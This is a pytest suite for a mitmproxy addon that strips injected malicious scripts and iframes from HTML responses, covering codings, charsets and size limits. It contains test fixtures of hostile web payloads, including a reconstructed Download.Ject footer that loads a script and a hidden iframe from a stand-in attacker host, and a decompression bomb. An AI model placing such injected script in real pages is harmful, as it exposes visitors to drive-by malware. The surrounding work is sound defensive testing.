"""The stripping addon, hook by hook, with mitmproxy's test helpers."""

from __future__ import annotations

import contextlib
import gzip
import os
import sys
import warnings
import zlib
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path

import brotli
import pytest

with warnings.catch_warnings():
    # ldap3 (imported by mitmproxy's proxyauth) trips a pyasn1 DeprecationWarning on import.
    warnings.simplefilter("ignore", DeprecationWarning)
    from mitmproxy import addons as mitm_addons
from mitmproxy import exceptions, http
from mitmproxy.test import taddons, tflow

from proxy_addons.addons import EngineHolder
from proxy_addons.addons.blocking import Blocking
from proxy_addons.addons.observe import STRIP_KEY, Observe
from proxy_addons.addons.strip import (
    DEFAULT_MAX_BYTES,
    INLINE_SCAN_BYTES,
    PLAN_KEY,
    Strip,
    UndecodableBody,
    decode_body,
    encode_body,
    html_plan,
)
from proxy_addons.core.charset import html_reading
from proxy_addons.core.engine import Engine
from proxy_addons.core.guard import PoisonGuard
from proxy_addons.core.htmlscan import BodyTooLarge
from proxy_addons.core.model import ListSpec, Mode, ParsedList, Rule, RuleKind
from proxy_addons.telemetry.events import EventLog
from proxy_addons.telemetry.metrics import Metrics

if sys.version_info >= (3, 14):
    from compression import zstd
else:  # pragma: no cover
    from backports import zstd

PAGE = "http://shop.test/news/index.html"
ATTACKER = "http://attacker.test/dot.php"
# Download.Ject's footer: one inline script writing a script tag and a hidden 1x1 iframe.
FOOTER = (
    "<script>document.write('<script src=\"" + ATTACKER + "\"></scr'+'ipt>"
    '<iframe src="' + ATTACKER + '" width=1 height=1 style="display:none"></iframe>\');</script>'
)
CLEAN = (
    "<!doctype html><html><head><meta charset=utf-8><title>News</title>"
    '<script src="/static/app.js"></script></head>'
    "<body><h1>Héllo</h1><p>Nothing to see.</p>"
    '<script>window.ok = 1;</script><iframe src="https://video.example/embed/1"></iframe>'
    "</body></html>"
)


@dataclass(frozen=True, slots=True)
class _NoGuard(PoisonGuard):
    def check(self, rule: Rule, *, allow: bool = False) -> str | None:
        return None


async def respond(addon: Strip, f: http.HTTPFlow) -> None:
    """The response hook as mitmproxy calls it: awaited only when it returns an awaitable."""
    pending = addon.response(f)
    if pending is not None:
        await pending


def _rules(*items: tuple[RuleKind, str]) -> ParsedList:
    return ParsedList("test", [Rule(k, key, key, i + 1) for i, (k, key) in enumerate(items)])


def make_engine(*hosts: str) -> Engine:
    engine, _, _ = Engine.from_lists(
        [
            (
                ListSpec(name="malware", category="malware"),
                _rules(*((RuleKind.DOMAIN, h) for h in (hosts or ("attacker.test",)))),
            ),
            (ListSpec(name="watch", mode=Mode.MONITOR), _rules((RuleKind.DOMAIN, "watch.test"))),
        ],
        guard=_NoGuard(),
    )
    return engine


@pytest.fixture
def holder() -> EngineHolder:
    return EngineHolder(make_engine())


@pytest.fixture
async def addon(holder: EngineHolder) -> AsyncIterator[Strip]:
    strip = Strip(holder)
    yield strip
    await strip.done()  # bodies over INLINE_SCAN_BYTES start worker processes: stop them


def response_flow(
    raw: bytes,
    headers: list[tuple[str, str]] | None = None,
    *,
    status: int = 200,
    url: str = PAGE,
    method: str = "GET",
    content_type: str | None = "text/html; charset=utf-8",
    length: bool = True,
) -> http.HTTPFlow:
    """A flow whose response carries exactly these raw bytes and headers."""
    hs: list[tuple[bytes, bytes]] = []
    if content_type is not None:
        hs.append((b"Content-Type", content_type.encode()))
    for k, v in headers or []:
        hs.append((k.encode(), v.encode()))
    if length:
        hs.append((b"Content-Length", str(len(raw)).encode()))
    resp = http.Response(
        http_version=b"HTTP/1.1",
        status_code=status,
        reason=b"OK",
        headers=http.Headers(hs),
        content=raw,
        trailers=None,
        timestamp_start=1.0,
        timestamp_end=2.0,
    )
    f = tflow.tflow(req=http.Request.make(method, url, b""), resp=resp)
    return f


@contextlib.contextmanager
def strip_context(addon: Strip) -> Iterator[taddons.context]:
    """A test context with the addon configured, as the master's start does."""
    with taddons.context(addon) as tctx:
        tctx.configure(addon)
        yield tctx


async def through(addon: Strip, f: http.HTTPFlow) -> http.HTTPFlow:
    """What the proxy does: responseheaders, (body arrives), response."""
    addon.responseheaders(f)
    if not f.response.stream:  # type: ignore[union-attr]
        await respond(addon, f)
    return f


def snapshot(f: http.HTTPFlow) -> tuple[bytes | None, list[tuple[bytes, bytes]]]:
    assert f.response is not None
    return f.response.raw_content, list(f.response.headers.fields)


def findings(f: http.HTTPFlow) -> list[dict[str, object]]:
    record = f.metadata.get(STRIP_KEY) or {}
    return list(record.get("findings") or [])


def skipped(f: http.HTTPFlow) -> str | None:
    record = f.metadata.get(STRIP_KEY) or {}
    return record.get("skipped")  # type: ignore[no-any-return]


def injected(page: str = CLEAN) -> str:
    return page.replace("</body></html>", FOOTER + "</body></html>")


# -- clean pages: not a byte changes -------------------------------------------------


@pytest.mark.parametrize("coding", ["identity", "gzip", "br", "zstd", "deflate"])
async def test_clean_page_is_byte_identical(addon: Strip, coding: str) -> None:
    raw = encode_body(CLEAN.encode(), coding)
    hs = [("ETag", '"abc123"'), ("Cache-Control", "max-age=60"), ("X-Odd", "  spaced  ")]
    if coding != "identity":
        hs.append(("Content-Encoding", coding))
    f = response_flow(raw, hs)
    before = snapshot(f)
    with strip_context(addon):
        await through(addon, f)
    assert snapshot(f) == before
    assert f.response.raw_content is raw  # type: ignore[union-attr]  # not even re-assigned
    assert STRIP_KEY not in f.metadata and PLAN_KEY not in f.metadata


async def test_clean_page_with_harmless_lookalikes_untouched(addon: Strip) -> None:
    page = CLEAN.replace(
        "<p>",
        "<p>see http://attacker.test/ in our report <!-- <script src=http://attacker.test/x>"
        " --><textarea><script src=http://attacker.test/x></script></textarea>",
    )
    f = response_flow(page.encode())
    before = snapshot(f)
    with strip_context(addon):
        await through(addon, f)
    assert snapshot(f) == before


# -- injected pages -------------------------------------------------------------------


async def test_footer_removed_and_content_length_fixed(addon: Strip) -> None:
    f = response_flow(injected().encode(), [("ETag", '"v1"'), ("Content-MD5", "abc=")])
    with strip_context(addon):
        await through(addon, f)
    resp = f.response
    assert resp is not None
    body = resp.raw_content
    assert body is not None
    assert b"dot.php" not in body and b"document.write" not in body
    assert body.startswith(CLEAN.encode()[: CLEAN.index("</body>")])
    assert body.endswith(b"</body></html>")
    assert b"<!-- jectguard: removed script (attacker.test) -->" in body  # jg_strip_comment on
    assert resp.headers["content-length"] == str(len(body))
    assert resp.headers["etag"] == 'W/"v1"'
    assert "content-md5" not in resp.headers
    (found,) = findings(f)
    assert found["element"] == "script" and found["removed"] is True
    assert found["list"] == "malware" and found["rule"] == "attacker.test"
    assert found["reason"] == "inline-reference"


async def test_only_the_removed_element_changes(addon: Strip) -> None:
    page = injected()
    f = response_flow(page.encode())
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_comment=False)
        await through(addon, f)
    assert f.response.raw_content == CLEAN.encode()  # type: ignore[union-attr]


async def test_script_src_and_iframe_to_blocked_host(addon: Strip) -> None:
    page = CLEAN.replace(
        "<p>",
        "<script src='//ATTACKER.test/a.js'></script><iframe src=http://x.attacker.test/f></iframe><p>",
    )
    f = response_flow(page.encode(), [("ETag", 'W/"weak"')])
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_comment=False)
        await through(addon, f)
    assert f.response.raw_content == CLEAN.encode()  # type: ignore[union-attr]
    assert f.response.headers["etag"] == 'W/"weak"'  # type: ignore[union-attr]
    assert [x["element"] for x in findings(f)] == ["script", "iframe"]


@pytest.mark.parametrize("coding", ["gzip", "br", "zstd", "deflate"])
async def test_compressed_page_reencoded(addon: Strip, coding: str) -> None:
    raw = encode_body(injected().encode(), coding)
    f = response_flow(raw, [("Content-Encoding", coding), ("Vary", "Accept-Encoding")])
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_comment=False)
        await through(addon, f)
    resp = f.response
    assert resp is not None
    assert resp.headers["content-encoding"] == coding
    assert resp.headers["vary"] == "Accept-Encoding"
    new_raw = resp.raw_content
    assert new_raw is not None and new_raw != raw
    assert resp.headers["content-length"] == str(len(new_raw))
    assert resp.content == CLEAN.encode()  # mitmproxy decodes it back
    if coding == "gzip":
        assert gzip.decompress(new_raw) == CLEAN.encode()
    elif coding == "br":
        assert brotli.decompress(new_raw) == CLEAN.encode()


async def test_chunked_response_keeps_no_content_length(addon: Strip) -> None:
    f = response_flow(injected().encode(), [("Transfer-Encoding", "chunked")], length=False)
    with strip_context(addon):
        await through(addon, f)
    assert b"dot.php" not in f.response.raw_content  # type: ignore[union-attr,operator]
    assert "content-length" not in f.response.headers  # type: ignore[union-attr]


@pytest.mark.parametrize("status", [404, 500, 302])
async def test_error_pages_stripped_too(addon: Strip, status: int) -> None:
    f = response_flow(injected().encode(), status=status)
    with strip_context(addon):
        await through(addon, f)
    assert b"dot.php" not in f.response.raw_content  # type: ignore[union-attr,operator]
    assert len(findings(f)) == 1


# -- charsets -------------------------------------------------------------------------


async def test_windows_1251_page(addon: Strip) -> None:
    text = "<html><head><title>Новости</title></head><body><p>Привет, мир</p>{}</body></html>"
    clean = text.format("").encode("windows-1251")
    page = text.format(FOOTER).encode("windows-1251")
    f = response_flow(page, content_type="text/html; charset=windows-1251")
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_comment=False)
        await through(addon, f)
    assert f.response.raw_content == clean  # type: ignore[union-attr]
    assert f.response.headers["content-type"] == "text/html; charset=windows-1251"  # type: ignore[union-attr]


async def test_windows_1251_meta_declared(addon: Strip) -> None:
    text = '<html><head><meta charset="windows-1251"></head><body>Ёжик{}</body></html>'
    page = text.format(FOOTER).encode("cp1251")
    f = response_flow(page, content_type="text/html")
    with strip_context(addon):
        await through(addon, f)
    body = f.response.raw_content  # type: ignore[union-attr]
    assert body is not None and b"dot.php" not in body
    assert "Ёжик".encode("cp1251") in body


@pytest.mark.parametrize("codec,bom", [("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")])
async def test_utf16_page_with_bom(addon: Strip, codec: str, bom: bytes) -> None:
    text = "<html><body><p>Grüße 日本</p>{}</body></html>"
    clean = bom + text.format("").encode(codec)
    page = bom + text.format(FOOTER).encode(codec)
    f = response_flow(page, content_type="text/html")
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_comment=False)
        await through(addon, f)
    assert f.response.raw_content == clean  # type: ignore[union-attr]
    # With the comment on, the comment is encoded in UTF-16 too.
    f2 = response_flow(page, content_type="text/html")
    with strip_context(addon):
        await through(addon, f2)
    out = f2.response.raw_content  # type: ignore[union-attr]
    assert out is not None
    assert "<!-- jectguard".encode(codec) in out
    assert out.decode("utf-16") == text.format("<!-- jectguard: removed script (attacker.test) -->")


# -- what is not touched ------------------------------------------------------------


@pytest.mark.parametrize(
    "content_type", ["application/json", "text/javascript", "image/svg+xml", "text/css"]
)
async def test_non_html_untouched(addon: Strip, content_type: str) -> None:
    f = response_flow(injected().encode(), content_type=content_type)
    before = snapshot(f)
    with strip_context(addon):
        await through(addon, f)
    assert snapshot(f) == before and STRIP_KEY not in f.metadata


async def test_sniffed_html_without_content_type_is_stripped(addon: Strip) -> None:
    f = response_flow(injected().encode(), content_type=None)
    with strip_context(addon):
        await through(addon, f)
    assert b"dot.php" not in f.response.raw_content  # type: ignore[union-attr,operator]


@pytest.mark.parametrize("content_type", ["application/octet-stream", "text/plain", None])
async def test_nosniff_or_non_html_body_untouched(addon: Strip, content_type: str | None) -> None:
    f = response_flow(
        injected().encode(), [("X-Content-Type-Options", "nosniff")], content_type=content_type
    )
    before = snapshot(f)
    with strip_context(addon):
        await through(addon, f)
    assert snapshot(f) == before
    binary = response_flow(b"\x89PNG\r\n\x1a\n" + FOOTER.encode(), content_type=content_type)
    before = snapshot(binary)
    with strip_context(addon):
        await through(addon, binary)
    assert snapshot(binary) == before


def test_html_plan_reads_headers_as_a_browser_does() -> None:
    """Names in any case; repeated fields are joined, and the MIME type is Fetch's pick."""

    def plan(*fields: tuple[bytes, bytes]) -> str | None:
        return html_plan(http.Headers(fields))

    assert plan((b"CONTENT-TYPE", b"Text/HTML; charset=utf-8")) == "html"
    assert plan((b"content-type", b"application/xhtml+xml")) == "html"
    assert plan((b"Content-Type", b"text/plain")) == "sniff"
    assert plan() == "sniff"
    assert plan((b"Content-Type", b"image/png")) is None
    # nosniff in the second of two X-Content-Type-Options fields still counts.
    assert (
        plan((b"X-Content-Type-Options", b"foo"), (b"x-content-type-options", b"NoSniff")) is None
    )
    # Two Content-Type fields: a browser renders the last one that parses (Fetch), so a
    # server cannot hide a page behind an image type placed first.
    assert plan((b"Content-Type", b"image/png"), (b"Content-Type", b"text/html")) == "html"
    assert plan((b"Content-Type", b"text/html"), (b"Content-Type", b"image/png")) is None


@pytest.mark.parametrize(
    "value",
    [
        "application/xhtml+xml, application/xhtml+xml",
        "text/plain, application/xhtml+xml;charset=utf-8",
    ],
)
def test_xhtml_with_repeated_types_is_scanned(value: str) -> None:
    # read as HTML, and known to be XML (what only an HTML reading places is not trusted)
    assert html_reading(value) in (("text/html", True), ('text/html; charset="utf-8"', True))
    # the label stays one label: a browser rejects "utf-16le;x", and so must the scanner
    assert html_reading('application/xhtml+xml; charset="utf-16le;x"') == (
        'text/html; charset="utf-16le;x"',
        True,
    )
    assert html_reading("text/html; charset=koi8-r") == ("text/html; charset=koi8-r", False)


@pytest.mark.parametrize(
    "status,method,extra",
    [(206, "GET", [("Content-Range", "bytes 0-99/1000")]), (304, "GET", []), (200, "HEAD", [])],
)
async def test_partial_and_bodiless_responses_untouched(
    addon: Strip, status: int, method: str, extra: list[tuple[str, str]]
) -> None:
    f = response_flow(injected().encode(), extra, status=status, method=method)
    before = snapshot(f)
    with strip_context(addon):
        await through(addon, f)
    assert snapshot(f) == before


async def test_addon_made_responses_untouched(addon: Strip) -> None:
    """Block pages and other addon answers never pass responseheaders: never scanned."""
    f = response_flow(injected().encode())
    before = snapshot(f)
    with strip_context(addon):
        await respond(addon, f)
    assert snapshot(f) == before


async def test_disabled(addon: Strip) -> None:
    f = response_flow(injected().encode())
    before = snapshot(f)
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip=False)
        await through(addon, f)
    assert snapshot(f) == before


# -- monitor --------------------------------------------------------------------------


async def test_monitor_list_logs_but_keeps(addon: Strip) -> None:
    page = injected(CLEAN).replace("attacker.test", "watch.test")
    f = response_flow(page.encode())
    before = snapshot(f)
    with strip_context(addon):
        await through(addon, f)
    assert snapshot(f) == before
    (found,) = findings(f)
    assert found["removed"] is False and found["list"] == "watch"


async def test_global_monitor_mode_keeps_everything(holder: EngineHolder) -> None:
    strip, blocking = Strip(holder), Blocking(holder)
    f = response_flow(injected().encode())
    before = snapshot(f)
    with taddons.context(blocking, strip) as tctx:
        tctx.configure(strip)
        tctx.configure(blocking, jg_mode="monitor")
        await through(strip, f)
    assert snapshot(f) == before
    (found,) = findings(f)
    assert found["removed"] is False and found["list"] == "malware"


async def test_after_html_policy(addon: Strip) -> None:
    page = (CLEAN + "<script src=/footer.js></script>").encode()
    with strip_context(addon) as tctx:
        logged = await through(addon, response_flow(page))
        assert logged.response.raw_content == page  # type: ignore[union-attr]
        assert findings(logged)[0]["reason"] == "after-html"
        assert findings(logged)[0]["removed"] is False
        tctx.configure(addon, jg_strip_after_html="strip", jg_strip_comment=False)
        stripped = await through(addon, response_flow(page))
        assert stripped.response.raw_content == CLEAN.encode()  # type: ignore[union-attr]
        tctx.configure(addon, jg_strip_after_html="off")
        off = await through(addon, response_flow(page))
        assert STRIP_KEY not in off.metadata


# -- size limits ----------------------------------------------------------------------


async def test_too_large_by_content_length_is_streamed(addon: Strip) -> None:
    f = response_flow(injected().encode())
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_max_bytes=100)
        addon.responseheaders(f)
    assert f.response.stream is True  # type: ignore[union-attr]
    assert PLAN_KEY not in f.metadata
    reason = skipped(f)
    assert reason is not None and "too large" in reason


async def test_too_large_after_decoding_passes_untouched(addon: Strip) -> None:
    page = injected(CLEAN.replace("<p>", "<p>" + "x" * 5000)).encode()
    raw = gzip.compress(page)
    f = response_flow(raw, [("Content-Encoding", "gzip")])
    before = snapshot(f)
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_max_bytes=len(raw) + 100)
        await through(addon, f)
    assert snapshot(f) == before
    assert "too large" in (skipped(f) or "")


async def test_streamed_by_mitmproxy_records_skip(addon: Strip) -> None:
    f = response_flow(injected().encode(), [("Transfer-Encoding", "chunked")], length=False)
    with strip_context(addon):
        addon.responseheaders(f)
        assert f.metadata[PLAN_KEY] == "html"
        f.response.stream = True  # type: ignore[union-attr]  # mitmproxy's late switch
        await respond(addon, f)
    assert "too large" in (skipped(f) or "")


async def test_sets_stream_large_bodies_unless_user_did(holder: EngineHolder) -> None:
    with taddons.context(loadcore=False) as tctx:
        tctx.master.addons.add(*mitm_addons.default_addons())
        strip = Strip(holder)
        tctx.master.addons.add(strip)
        tctx.configure(strip)  # as the master's start does for every option
        assert tctx.options.stream_large_bodies == str(DEFAULT_MAX_BYTES)
        tctx.options.update(jg_strip_max_bytes=2048)
        assert tctx.options.stream_large_bodies == "2048"
        tctx.options.update(stream_large_bodies="50m")  # the user's own choice wins
        tctx.options.update(jg_strip_max_bytes=4096)
        assert tctx.options.stream_large_bodies == "50m"


async def test_large_page_scanned_off_the_loop(addon: Strip) -> None:
    filler = "<p>" + "lorem ipsum " * 40 + "</p>\n"
    big = CLEAN.replace("<p>", filler * (INLINE_SCAN_BYTES // len(filler) + 10) + "<p>")
    f = response_flow(injected(big).encode(), [("ETag", '"big"')])
    with strip_context(addon) as tctx:
        tctx.configure(addon, jg_strip_comment=False)
        await through(addon, f)
        assert addon._pool is not None and addon._pool.pids  # a worker process did it
        await addon.done()
    assert f.response.raw_content == big.encode()  # type: ignore[union-attr]
    assert f.response.headers["etag"] == 'W/"big"'  # type: ignore[union-attr]


def test_decode_body_is_bounded() -> None:
    bomb = gzip.compress(b"\0" * 20_000_000)
    with pytest.raises(BodyTooLarge):
        decode_body(bomb, "gzip", 1_000_000)
    with pytest.raises(BodyTooLarge):
        decode_body(brotli.compress(b"\0" * 20_000_000), "br", 1_000_000)
    with pytest.raises(BodyTooLarge):
        decode_body(zstd.compress(b"\0" * 20_000_000), "zstd", 1_000_000)
    with pytest.raises(BodyTooLarge):
        decode_body(b"x" * 11, "identity", 10)
    with pytest.raises(UndecodableBody):
        decode_body(b"not gzip", "gzip", 100)
    # A coding a browser does not know: it renders the raw bytes, and so they are scanned.
    assert decode_body(b"abc", "compress", 100) == b"abc"
    assert decode_body(zlib.compress(b"hello"), "deflate", 100) == b"hello"
    assert decode_body(zlib.compress(b"hello")[2:-4], "deflate", 100) == b"hello"  # raw deflate
    data = b"".join(b"line %d\n" % i for i in range(5000))
    partial = decode_body(gzip.compress(data)[:-100], "gzip", 100_000)
    assert data.startswith(partial) and len(partial) > 10_000


def test_decode_body_reads_what_a_browser_renders() -> None:
    """Each case checked against Chromium (tests/e2e/test_browser.py renders the same bodies)."""
    page = b"".join(b"<p>line %d</p>\n" % i for i in range(5000))
    # Stacked codings are undone last-applied first, and applied again in order.
    for coding, raw in [
        ("gzip, gzip", gzip.compress(gzip.compress(page))),
        ("gzip, br", brotli.compress(gzip.compress(page))),
        ("deflate,zstd", zstd.compress(zlib.compress(page))),
        ("X-GZIP", gzip.compress(page)),
    ]:
        assert decode_body(raw, coding, 10_000_000) == page, coding
        assert decode_body(encode_body(page, coding), coding, 10_000_000) == page, coding
    # Any token a browser does not decode (identity too): the raw bytes are the page.
    for coding in ("identity, gzip", "gzip, x-unknown", "none", ""):
        assert decode_body(b"<p>raw</p>", coding, 100) == b"<p>raw</p>", coding
        assert encode_body(b"<p>new</p>", coding) == b"<p>new</p>", coding
    # A wrong gzip CRC: browsers do not check it, and render the whole page.
    bad_crc = gzip.compress(page)[:-8] + bytes(8)
    assert decode_body(bad_crc, "gzip", 10_000_000) == page
    # Damage part-way: everything before it still comes out (a browser has rendered that
    # much), then whatever the damaged data decodes to, up to an error if there is one.
    raw = gzip.compress(page)
    damaged = raw[: len(raw) // 2] + b"\xff" * 64 + raw[len(raw) // 2 + 64 :]
    out = decode_body(damaged, "gzip", 10_000_000)
    assert len(os.path.commonprefix([out, page])) > len(page) // 4
    assert decode_body(gzip.compress(b""), "gzip", 100) == b""


def test_truncated_or_damaged_streams_yield_their_prefix() -> None:
    page = b"".join(b"<p>line %d with some text</p>\n" % i for i in range(3000))  # ~90 KB
    # brotli hands out ~32 KB per call until the stream ends; a cut stream must still
    # give everything before the cut, not the first 32 KB
    cut = brotli.compress(page)[:-20]
    out = decode_body(cut, "br", 10_000_000)
    assert page.startswith(out) and len(out) > len(page) - 4096
    # zstd damaged near the end: the blocks before the damage come out (zstd checks
    # whole blocks of up to 128 KB, so that is the grain)
    big = b"".join(b"<p>%d %x</p>\n" % (i, i * 7919) for i in range(60_000))  # ~1 MB
    raw = zstd.compress(big)
    damaged = raw[: len(raw) * 9 // 10] + b"\xff" * 32 + raw[len(raw) * 9 // 10 + 32 :]
    out = decode_body(damaged, "zstd", 10_000_000)
    assert len(os.path.commonprefix([out, big])) > len(big) // 2
    # deflate damaged near the start: what decodes before the damage, to the byte
    small = b"<p>hello</p><script src=http://evil.test/x.js></script>" * 3
    deflated = zlib.compress(small * 20, 9)[2:-4]
    broken = deflated[:40] + b"\xff" + deflated[41:]
    try:
        prefix = decode_body(b"\x78\x9c" + broken, "deflate", 10_000)
    except UndecodableBody:
        prefix = b""
    byte_by_byte = b""
    d = zlib.decompressobj(-15)
    for k in range(len(broken)):
        try:
            byte_by_byte += d.decompress(broken[k : k + 1])
        except zlib.error:
            break
    assert prefix == byte_by_byte


def test_long_chains_of_codings_are_read_within_a_budget() -> None:
    """Chromium undoes any number of codings: so does the scanner, while all layers
    together decode to at most CODING_WORK_FACTOR times the limit."""
    body = b"<p>x</p><script src=http://evil.test/x.js></script>"
    for _ in range(40):
        body = gzip.compress(body)
    assert decode_body(body, ", ".join(["gzip"] * 40), 100_000).startswith(b"<p>x</p>")
    big = b"a" * 400
    for _ in range(12):  # stored blocks: every layer as large as the page
        big = gzip.compress(big, 0)
    with pytest.raises(UndecodableBody, match="stacked codings"):
        decode_body(big, ", ".join(["gzip"] * 12), 1000)


def test_brotli_with_bytes_after_the_stream() -> None:
    """Chromium ignores what follows the end of a brotli stream; so does the scanner."""
    page = (
        b"".join(b"<p>%d</p>" % i for i in range(4000))
        + b"<script src=http://evil.test/x.js></script>"
    )
    assert decode_body(brotli.compress(page) + b"\x00", "br", 10**6) == page
    assert decode_body(brotli.compress(page) + b"junk" * 2000, "br", 10**6) == page


def test_zstd_frame_after_frame() -> None:
    """A browser's zstd decoder goes on into later frames and over skippable ones."""
    first, attack = b"<p>first</p>" * 1000, b"<script src=http://evil.test/x.js></script>"
    assert decode_body(zstd.compress(first) + zstd.compress(attack), "zstd", 10**6).endswith(attack)
    skippable = b"\x50\x2a\x4d\x18" + (4).to_bytes(4, "little") + b"abcd"
    assert decode_body(skippable + zstd.compress(attack), "zstd", 10**6) == attack


@pytest.mark.parametrize("coding", ["gzip, x-unknown", "identity, gzip", "x-unknown,gzip"])
async def test_firefox_reading_of_a_chain_with_unknown_codings(addon: Strip, coding: str) -> None:
    """Firefox skips codings it does not know and undoes the rest (Chromium renders the
    raw bytes): the page hidden in that reading is stripped, and the header then names
    only the codings applied, so every browser reads the cleaned page."""
    f = response_flow(gzip.compress(injected().encode()), [("Content-Encoding", coding)])
    with strip_context(addon):
        await through(addon, f)
    assert f.response is not None
    assert f.response.headers["content-encoding"] == "gzip"
    page = gzip.decompress(f.response.raw_content or b"")
    assert b"dot.php" not in page and b"window.ok = 1" in page
    assert int(f.response.headers["content-length"]) == len(f.response.raw_content or b"")


async def test_unknown_coding_over_a_plain_page_is_stripped_raw(addon: Strip) -> None:
    f = response_flow(injected().encode(), [("Content-Encoding", "x-unknown")])
    with strip_context(addon):
        await through(addon, f)
    assert f.response is not None and f.response.headers["content-encoding"] == "x-unknown"
    assert b"dot.php" not in (f.response.raw_content or b"")


async def test_undecodable_body_passes_untouched(addon: Strip) -> None:
    f = response_flow(b"\x1f\x8b garbage", [("Content-Encoding", "gzip")])
    before = snapshot(f)
    with strip_context(addon):
        await through(addon, f)
    assert snapshot(f) == before
    assert "not scanned" in (skipped(f) or "")


# -- engine swaps and options -----------------------------------------------------


async def test_engine_swap_rebuilds_the_scanner(addon: Strip, holder: EngineHolder) -> None:
    page = injected().replace("attacker.test", "newly-bad.test")
    with strip_context(addon):
        first = await through(addon, response_flow(page.encode()))
        assert STRIP_KEY not in first.metadata  # not listed yet (and the answer is cached)
        holder.swap(make_engine("attacker.test", "newly-bad.test"))
        second = await through(addon, response_flow(page.encode()))
    assert b"dot.php" not in second.response.raw_content  # type: ignore[union-attr,operator]


async def test_signatures_option(addon: Strip, tmp_path: Path) -> None:
    good = tmp_path / "sigs.toml"
    good.write_text(
        '[[signature]]\nname = "marker"\nkind = "literal"\npattern = "evilmarker"\n'
        'description = "test"\nreference = "https://example.org/"\n'
    )
    bad = tmp_path / "bad.toml"
    bad.write_text('[[signature]]\nname = "x"\nkind = "glob"\npattern = "a"\n')
    page = CLEAN.replace("<p>", "<script>eval('var evilmarker = 1');</script><p>").encode()
    with strip_context(addon) as tctx:
        with pytest.raises(exceptions.OptionsError, match=r"jg_signatures: .*line 1"):
            tctx.configure(addon, jg_signatures=str(bad))
        with pytest.raises(exceptions.OptionsError, match="jg_signatures: cannot read"):
            tctx.configure(addon, jg_signatures=str(tmp_path / "missing.toml"))
        tctx.configure(addon, jg_signatures=str(good), jg_strip_comment=False)
        f = await through(addon, response_flow(page))
    assert f.response.raw_content == CLEAN.encode()  # type: ignore[union-attr]
    assert findings(f)[0]["reason"] == "signature" and findings(f)[0]["rule"] == "marker"


async def test_shipped_signatures_catch_download_ject(addon: Strip) -> None:
    footer = FOOTER.replace("attacker.test", "217.107.218.147")
    f = response_flow(CLEAN.replace("</body>", footer + "</body>").encode())
    with strip_context(addon):
        await through(addon, f)
    assert b"dot.php" not in f.response.raw_content  # type: ignore[union-attr,operator]
    assert findings(f)[0]["rule"] == "download-ject"


async def test_configure_rejects_bad_values(addon: Strip) -> None:
    with strip_context(addon) as tctx:
        with pytest.raises(exceptions.OptionsError, match="jg_strip_max_bytes"):
            tctx.configure(addon, jg_strip_max_bytes=0)
        with pytest.raises(exceptions.OptionsError, match="jg_strip_after_html"):
            tctx.configure(addon, jg_strip_after_html="remove")


async def test_observe_turns_findings_into_events(holder: EngineHolder) -> None:
    events, metrics = EventLog(), Metrics()
    strip, observe = Strip(holder), Observe(events, metrics, holder)
    f = response_flow(injected().encode())
    with taddons.context(strip, observe) as tctx:
        tctx.configure(strip)
        tctx.configure(observe, jg_events_file="")
        await through(strip, f)
        observe.response(f)
    (event,) = [e for e in events.recent() if e["event"] == "strip"]
    assert event["url"] == PAGE and event["element"] == "script"
    assert event["list"] == "malware" and event["removed"] is True
    assert event["element_url"] == findings(f)[0]["url"]


@pytest.mark.parametrize("content_type", [None, "text/plain", "application/octet-stream"])
@pytest.mark.parametrize("encoding", [None, " ", "identity"])
@pytest.mark.parametrize(
    "body", [injected(), "  \n" + injected(), "<!-- x -->" + FOOTER, "ok", "<p>" + FOOTER]
)
async def test_the_not_html_shortcut_decides_as_the_scan_does(
    addon: Strip, content_type: str | None, encoding: str | None, body: str
) -> None:
    """Unencoded bodies that do not sniff as HTML skip the scan job (issue 16): any body the
    scanner itself would strip is still stripped, whatever the type and coding headers say."""
    headers = [("Content-Encoding", encoding)] if encoding is not None else []
    f = response_flow(body.encode(), headers, content_type=content_type)
    with strip_context(addon):
        addon.responseheaders(f)
        if PLAN_KEY not in f.metadata:
            return  # not a candidate at all (decided before the shortcut)
        scanner = addon._scanner(addon.holder.engine)
        _, expected = scanner.strip(body.encode(), PAGE, content_type)
        await respond(addon, f)
    stripped = f.response.raw_content != body.encode()  # type: ignore[union-attr]
    assert stripped == any(x.removed for x in expected), (content_type, encoding, body[:40])
